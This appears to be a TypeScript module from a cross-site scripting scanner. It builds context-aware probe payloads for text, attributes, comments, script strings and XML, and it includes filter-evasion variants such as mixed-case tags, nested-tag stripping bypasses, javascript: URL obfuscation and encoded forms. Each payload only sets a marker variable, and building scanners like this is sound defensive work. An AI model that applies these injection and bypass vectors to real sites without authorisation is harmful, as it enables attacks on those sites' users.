/**
 * What is sent to show that a script could run. All that any of it would do is to set a global variable, named by a
 * random word, to 1.
 */
import type { Reflection } from './reflections.ts';
import { assignment, spotOf } from './script-syntax.ts';

export interface Payload {
  /** @param word that the script would assign to */
  write(word: string): string;
  /** characters that have to come through as they are; of those that filters care about */
  needs: string;
}

/** Characters whose coming through is looked at. A space after `<` keeps it from looking like a tag. */
export const SPECIAL = `>"'\`/\\()&;=[]{}$:< `;
const CARED_FOR = /[<>"'`\\=[\](){}$;:&]/g;

const payload = (write: Payload['write'], decodes = false): Payload => ({
  write,
  needs: decodes ? '' : [...new Set(write('x').match(CARED_FOR) ?? [])].join(''),
});

/** Elements that run a script as soon as they are there; the plainest first, then what gets past a filter. */
const ELEMENTS: readonly Payload[] = [
  payload((x) => `<svg onload=${x}=1>`),
  payload((x) => `<img src onerror=${x}=1>`),
  payload((x) => `<script>${x}=1</script>`),
  // for lists of what is forbidden, in lower case and with spaces
  payload((x) => `<sVg/oNloAd=${x}=1>`),
  payload((x) => `<details open ontoggle=${x}=1>`),
  // for filters that take away once what they look for
  payload((x) => `<scr<script>ipt>${x}=1//</scr</script>ipt>`),
  payload((x) => `<<a>svg onload=${x}=1>`),
  payload((x) => `<svg oonloadnload=${x}=1>`),
  payload((x) => `<svg ona=onload=${x}=1>`),
  // for those that look for a whole tag: the page's next one ends it
  payload((x) => `<svg onload=${x}=1 `),
];
/** For what is decoded once more on its way into the page. */
const DECODED: readonly Payload[] = [
  payload((x) => `&lt;svg onload=${x}=1&gt;`, true),
  payload((x) => `%3Csvg onload=${x}=1%3E`, true),
];

const after = (prefix: string, list: readonly Payload[]): Payload[] =>
  list.map(({ write }) => payload((x) => prefix + write(x)));

/** Characters of a script that is read once for each payload, while nothing else is done. */
const MAX_TRIED_HERE = 30_000;

/** In the order in which they are to be tried. @param isXml whether the page is one of XML */
export function payloadsFor(reflection: Reflection, isXml: boolean): Payload[] {
  if (isXml) return reflection.in === 'text' ? [payload(XML_SCRIPT)] : [];
  switch (reflection.in) {
    case 'text':
      return [...ELEMENTS, ...DECODED];
    case 'comment':
      return [...after('-->', ELEMENTS), ...after('--!>', ELEMENTS.slice(0, 1))];
    case 'raw text':
      return after(`</${reflection.element}>`, ELEMENTS);
    case 'tag':
      return [...after('>', ELEMENTS.slice(0, 4)), ...handlers('')];
    case 'attribute': {
      const { quote, name, begins, element } = reflection;
      return [
        ...(begins ? addresses(element, name) : []),
        ...after(`${quote}>`, ELEMENTS.slice(0, 4)),
        ...handlers(quote),
        ...after(`${quote}>`, ELEMENTS.slice(4)),
      ];
    }
    case 'script': {
      const codes = scriptPayloads(reflection);
      if (reflection.element) return [...after('</script>', ELEMENTS.slice(0, 2)), ...codes];
      const { quote } = reflection;
      return [...codes, ...after(`${quote}>`, ELEMENTS.slice(0, 2)), ...handlers(quote)];
    }
    default:
      return reflection satisfies never;
  }
}

const XML_SCRIPT = (x: string) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${x}=1</x:script>`;

/** Attributes besides, in the page's own tag; whatever follows goes into one that nobody knows. */
function handlers(quote: string): Payload[] {
  const rest = quote === '' ? '' : `x=${quote}`;
  const value = quote === '' ? 'x' : '';
  return [
    payload((x) => `${value}${quote} autofocus tabindex=1 onfocus=${x}=1 ${rest}`),
    payload((x) => `${value}${quote}\fautofocus\ftabindex=1\fonfocus=${x}=1\f${rest}`),
  ];
}

/** Where the value is the beginning of an address. */
function addresses(element: string, name: string): Payload[] {
  if (element === 'script' && name === 'src') return [payload((x) => `data:text/javascript,${x}=1`)];
  if (!['href', 'xlink:href', 'action', 'formaction', 'src'].includes(name)) return [];
  if (!['a', 'area', 'form', 'button', 'input', 'iframe', 'frame'].includes(element)) return [];
  if (name === 'src' && element === 'input') return [];
  return [
    payload((x) => `javascript:${x}=1`),
    payload((x) => `JaVaScRiPt:${x}=1`),
    payload((x) => `java\tscript:${x}=1`),
    // for those who want to see an address with a host
    payload((x) => `javascript://x.example/%0a${x}=1`),
  ];
}

/**
 * What leaves the text, comment or expression that the word stands in, without breaking the script: an error in one
 * place, and nothing of it runs. Each is tried here, before the site is asked.
 */
function scriptPayloads({ code, element }: Extract<Reflection, { in: 'script' }>): Payload[] {
  const word = WORD.exec(code)?.[0];
  const { lexical, closers } = spotOf(code, word ?? '');
  const quotes = lexical.in === 'string' ? [lexical.quote] : lexical.in === 'unknown' ? ["'", '"'] : [];
  const candidates: Payload[] = quotes.flatMap((quote) => [
    payload((x) => `${quote}+[${x}=1]+${quote}`),
    payload((x) => `${quote};${x}=1;${quote}`),
    payload((x) => `${quote}+[${x}=1]${closers}//`),
    // where quotes are escaped and backslashes are not
    payload((x) => `\\${quote}+[${x}=1]${closers}//`),
    ...(element
      ? []
      : [payload((x) => `&#${quote.charCodeAt(0)};+[${x}=1]+&#${quote.charCodeAt(0)};`, true)]),
  ]);
  if (lexical.in === 'template' || lexical.in === 'unknown') candidates.push(payload((x) => `\${${x}=1}`));
  if (lexical.in === 'line comment') candidates.push(payload((x) => `\n${x}=1//`));
  if (lexical.in === 'block comment') {
    candidates.push(
      payload((x) => `*/${x}=1;/*`),
      payload((x) => `*/;${x}=1;/*`),
      payload((x) => `*/[${x}=1]/*`),
    );
  }
  if (lexical.in === 'regexp') candidates.push(payload((x) => `/+[${x}=1]+/`));
  if (lexical.in === 'code' || lexical.in === 'unknown') {
    candidates.push(
      payload((x) => `[${x}=1]`),
      payload((x) => `${x}=1`),
      payload((x) => `1;${x}=1`),
    );
  }
  if (word === undefined || code.length > MAX_TRIED_HERE) return candidates;
  return candidates.filter(({ write, needs }) => {
    if (needs === '') return true;
    const plain = write('scanwirexx');
    const escaped = plain.replace(/(["'])/g, '\\$1');
    return [plain, escaped].some(
      (sent) =>
        assignment(
          code.replaceAll(word, () => sent),
          'scanwirexx',
          element ? 'script' : 'handler',
        ) !== null,
    );
  });
}

/** What `mark` put in: told from everything else by its beginning. */
const WORD = /zq[\da-z]{8}/i;
/** A word that `scriptPayloads` finds again. @param random ten characters */
export const mark = (random: string): string => `zq${random.slice(2)}`;
